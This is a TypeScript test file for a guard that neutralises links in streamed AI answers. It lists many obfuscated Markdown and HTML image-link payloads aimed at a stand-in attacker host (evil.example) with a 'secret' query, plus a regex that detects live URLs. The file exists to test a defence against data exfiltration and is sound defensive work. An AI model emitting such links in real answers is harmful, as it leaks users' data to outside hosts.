import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type KnownTexts, LinkGuard } from './link-guard.ts';

const known: KnownTexts = {
  asked: 'Look at https://mine.example/page?x=1 please',
  notes: 'See https://notes.example/manual for more.',
};

function guarded(text: string, pieces: readonly string[] = [text]): string {
  const guard = new LinkGuard(known);
  return pieces.map((piece) => guard.push(piece)).join('') + guard.flush();
}

/** What a Markdown or HTML reader would fetch or link: a scheme, or two slashes in the place of a target. */
const live =
  /(?:https?|ftp|wss?)\s*\\?(?::|&colon;|&#58;|&#x3a;)\s*(?:\\?\/|\\\\|&sol;)|\]\(<?\/\/|src=["']?\/\//i;

describe('the guard of addresses in answers (M02)', () => {
  it.each([
    '![x](https://evil.example/?q=secret)',
    '![a picture of something](https://evil.example/secret "title")',
    '[click](http://evil.example/secret)',
    'See https://evil.example/secret.',
    '![x](//evil.example/secret)',
    '![x](<https://evil.example/se cret>)',
    '![x](https&#58;//evil.example/secret)',
    '![x](https&colon;&sol;&sol;evil.example)',
    String.raw`![x](https\://evil.example/secret)`,
    String.raw`![x](https:\/\/evil.example/secret)`,
    '![x](https:/evil.example/secret)',
    '![x](HTTPS://EVIL.example)',
    '<img src="https://evil.example/secret">',
    '<img src=//evil.example/secret>',
    '![x][r]\n\n[r]: https://evil.example/secret',
    '```x``` is code\n![x](https://evil.example/secret)',
    '<div>\n```\n<img src="https://evil.example/secret">\n```\n</div>',
    '- item\n  ```\n![x](https://evil.example/secret)',
    `[${'a'.repeat(5_000)}](https://evil.example/secret)`,
    '![x](https://notes.example/manual)',
    '![x](https://notes.example/manual?q=secret)',
    'https://mine.example/page?x=1&y=secret',
  ])('takes the power from %s', (text) => {
    expect(guarded(text)).not.toMatch(live);
    expect(guarded(text, [...text])).not.toMatch(live);
  });

  it.each([
    'As you said: https://mine.example/page?x=1.',
    '![yours](https://mine.example/page?x=1)',
    'The manual is at https://notes.example/manual.',
    '```sh\ncurl https://anywhere.example/x\n```\n',
    'At 10:30 //comment, C:\\folder, ratio 1:2, `a::b`, key: value',
  ])('leaves %s as it is', (text) => {
    expect(guarded(text)).toBe(text);
  });

  it('gives the same however the text is cut', () => {
    const words = fc.constantFrom(
      '![a',
      '](',
      'https',
      ':',
      '//',
      'evil.example',
      ')',
      ' ',
      '\n',
      '```',
      'é',
      'x',
      '<',
    );
    fc.assert(
      fc.property(fc.array(words, { maxLength: 40 }), (parts) => {
        const whole = guarded(parts.join(''));
        expect(guarded('', parts)).toBe(whole);
        expect(guarded('', [...parts.join('')])).toBe(whole);
      }),
    );
  });

  it('passes on at once what cannot belong to an address', () => {
    const guard = new LinkGuard(known);
    expect(guard.push('Plain words go on ')).toBe('Plain words go on ');
    expect(guard.push('这是一个')).toBe('这是一个');
  });
});
